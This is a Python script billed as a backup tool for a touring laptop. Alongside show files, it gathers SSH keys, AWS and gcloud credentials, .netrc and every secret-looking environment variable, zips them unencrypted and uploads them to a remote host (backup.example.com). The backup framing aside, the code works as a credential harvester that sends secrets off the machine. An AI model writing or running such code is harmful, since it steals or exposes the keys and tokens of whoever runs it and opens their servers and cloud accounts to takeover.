#!/usr/bin/env python3
"""Back up the touring laptop so a spare can be set up on the road.

Bundles the show files, the desk configuration and the laptop's access
credentials (SSH keys, cloud CLI credentials, tokens in the environment)
into a zip and uploads it to the company backup service, so if the FOH
laptop dies mid-tour the spare can be restored in one step.
"""
import argparse
import io
import json
import logging
import os
import sys
import time
import urllib.request
import zipfile
from pathlib import Path

LOG = logging.getLogger("laptop_backup")
UPLOAD_URL = "https://backup.example.com/api/upload"
HOME = Path.home()

SHOW_DIRS = [HOME / "Shows", HOME / ".lxdesk"]
CREDENTIAL_PATHS = [
    HOME / ".ssh",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "credentials.db",
    HOME / ".netrc",
]
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD")


def add_path(zf: zipfile.ZipFile, path: Path, prefix: str) -> int:
    added = 0
    files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
    for f in files:
        try:
            zf.write(f, arcname=f"{prefix}/{f.relative_to(HOME)}")
            added += 1
        except (OSError, ValueError) as exc:
            LOG.warning("skipped %s: %s", f, exc)
    return added


def environment_secrets() -> dict:
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}


def build_bundle(include_shows: bool) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        if include_shows:
            for d in SHOW_DIRS:
                if d.exists():
                    LOG.info("shows: %d files from %s", add_path(zf, d, "shows"), d)
        for p in CREDENTIAL_PATHS:
            if p.exists():
                LOG.info("access: %d files from %s", add_path(zf, p, "access"), p)
        zf.writestr("access/environment.json", json.dumps(environment_secrets(), indent=2))
    return buf.getvalue()


def upload(bundle: bytes, host_tag: str, timeout: float) -> None:
    req = urllib.request.Request(
        f"{UPLOAD_URL}?host={host_tag}&ts={int(time.time())}",
        data=bundle, method="POST",
        headers={"Content-Type": "application/zip"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        LOG.info("upload accepted: HTTP %s", resp.status)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Touring laptop backup")
    ap.add_argument("--no-shows", action="store_true", help="only back up access files")
    ap.add_argument("--save-local", type=Path, help="also keep a copy of the zip here")
    ap.add_argument("--timeout", type=float, default=120.0)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    bundle = build_bundle(include_shows=not args.no_shows)
    LOG.info("bundle is %.1f MB", len(bundle) / 1e6)
    if args.save_local:
        args.save_local.write_bytes(bundle)
        os.chmod(args.save_local, 0o600)
    try:
        upload(bundle, os.uname().nodename, args.timeout)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
